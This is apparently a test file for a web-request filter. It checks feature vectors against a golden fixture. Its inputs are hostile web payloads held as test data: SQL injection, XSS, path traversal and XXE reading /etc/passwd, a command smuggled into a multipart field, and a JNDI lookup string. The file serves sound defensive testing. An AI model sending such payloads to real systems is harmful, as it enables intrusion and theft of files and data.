// Golden feature vectors: pins the feature spec (filter/core/features.ts, FEATURE_SPEC_VERSION) and the
// decoding in front of it. Compares core.featurize at 16 bits against test/fixtures/features.golden.json.
// Regenerate only on purpose, and review the diff: UPDATE_GOLDEN=1 npx vitest run --project unit golden
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { resolve } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { type Core, loadCore, REPO_ROOT } from "../support/core";

const GOLDEN = resolve(REPO_ROOT, "test/fixtures/features.golden.json");
const BITS = 16;
const UPDATE = process.env.UPDATE_GOLDEN === "1";

// Fixed inputs: every where, each decode flag at least once, a 2-window text.
const INPUTS: { name: string; where: string; text: string }[] = [
  { name: "sqli in a query", where: "query", text: "id=1' OR '1'='1" },
  { name: "double-encoded union", where: "query", text: "q=1%2520UNION%2520SELECT%2520password%2520FROM%2520users--" },
  { name: "xss entities in JSON", where: "body:json", text: '{"c":"&lt;img src=x onerror=alert(1)&gt;","n":1}' },
  { name: "IIS %u and NUL in a path", where: "path", text: "/a/%u002e%u002e/%00etc/passwd" },
  { name: "overlong and bad percent", where: "path", text: "/static/%c0%ae%c0%ae%c0%af%zz" },
  { name: "escapes in a header", where: "header:User-Agent", text: "Mozilla/5.0 \\x3cscript\\u003e" },
  { name: "cookies", where: "header:Cookie", text: "_ga=GA1.2.1234567890.1700000000; theme=dark" },
  { name: "base64 form value", where: "body:form", text: `name=Ann+Lee&data=${Buffer.from("<script>alert(1)</script>").toString("base64")}` },
  { name: "multipart field", where: "body:multipart", text: '--b\r\nContent-Disposition: form-data; name="cmd"\r\n\r\n;cat /etc/passwd\r\n--b--\r\n' },
  { name: "xml", where: "body:xml", text: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
  { name: "UTF-8 text", where: "body:text", text: "Grüße aus Köln — 東京 ünd café. Ça va?" },
  { name: "two windows", where: "body:text", text: `${"The quick brown fox jumps over the lazy dog. ".repeat(25)}\${jndi:ldap://x/a}` },
];

interface Golden {
  feature_spec_version: number;
  bits: number;
  // piece: a piece the zoom cut from the window before it (core/zoom.ts), which the filter scores too.
  cases: { name: string; where: string; text: string; windows: { where: number; flags: number; piece?: true; features: number[] }[] }[];
}

let core: Core;
beforeAll(async () => {
  core = await loadCore();
});

function compute(): Golden {
  return {
    feature_spec_version: core.featureSpecVersion,
    bits: BITS,
    cases: INPUTS.map(({ name, where, text }) => ({
      name, where, text,
      windows: core.featurize(where, text, BITS).map((w) => ({
        where: w.where, flags: w.flags, ...(w.piece ? { piece: true as const } : {}), features: Array.from(w.features).sort((a, b) => a - b),
      })),
    })),
  };
}

// One feature list per line, so a diff shows which input changed.
function render(g: Golden): string {
  const json = JSON.stringify(g, null, 2);
  return `${json.replace(/"features": \[[\s\d,]*\]/g, (m) => m.replace(/\s+/g, "").replace('"features":', '"features": '))}\n`;
}

describe("golden feature vectors", () => {
  it(UPDATE ? "writes test/fixtures/features.golden.json" : "match test/fixtures/features.golden.json", () => {
    const actual = compute();
    if (UPDATE) {
      writeFileSync(GOLDEN, render(actual));
      return;
    }
    if (!existsSync(GOLDEN)) throw new Error(`${GOLDEN} missing; create it with UPDATE_GOLDEN=1`);
    const golden = JSON.parse(readFileSync(GOLDEN, "utf8")) as Golden;
    expect(actual.feature_spec_version, "feature spec version").toBe(golden.feature_spec_version);
    expect(actual.cases.map((c) => c.name)).toEqual(golden.cases.map((c) => c.name));
    for (let i = 0; i < golden.cases.length; i++) {
      expect(actual.cases[i], `features of "${golden.cases[i].name}" changed; bump FEATURE_SPEC_VERSION and regenerate with UPDATE_GOLDEN=1`).toEqual(golden.cases[i]);
    }
  });

  it("cover every decode flag and at least one input with two windows", () => {
    const flags = compute().cases.flatMap((c) => c.windows.map((w) => w.flags)).reduce((a, b) => a | b, 0);
    expect(flags).toBe(0x1ff);
    expect(compute().cases.some((c) => c.windows.length >= 2)).toBe(true);
  });

  it("are stable across calls, and a narrower table keeps the top bits of a wider one", () => {
    expect(compute()).toEqual(compute());
    // Buckets are the high bits of one multiplicative hash (spec v2+): 2^16 buckets are the
    // 2^20 buckets shifted right by 4, so models of different sizes share one feature stream.
    const wide = core.featurize("query", INPUTS[0].text, 20)[0].features;
    const narrow = core.featurize("query", INPUTS[0].text, BITS)[0].features;
    expect(Array.from(wide, (h) => h >>> 4)).toEqual(Array.from(narrow));
  });

  it("are the same on the path explanations take (features with their text spans)", () => {
    const texts = [...INPUTS.map((i) => i.text), "", "a", "  spaced   out  ", "1 UNION SELECT 127,169,254 FROM t--", "東京 café ünd ${jndi:x}", "x".repeat(300)];
    for (const t of texts) for (const flags of [0, 0x1ff]) expect(core.featurePathsAgree(t, flags), JSON.stringify(t.slice(0, 40))).toBe(true);
  });
});
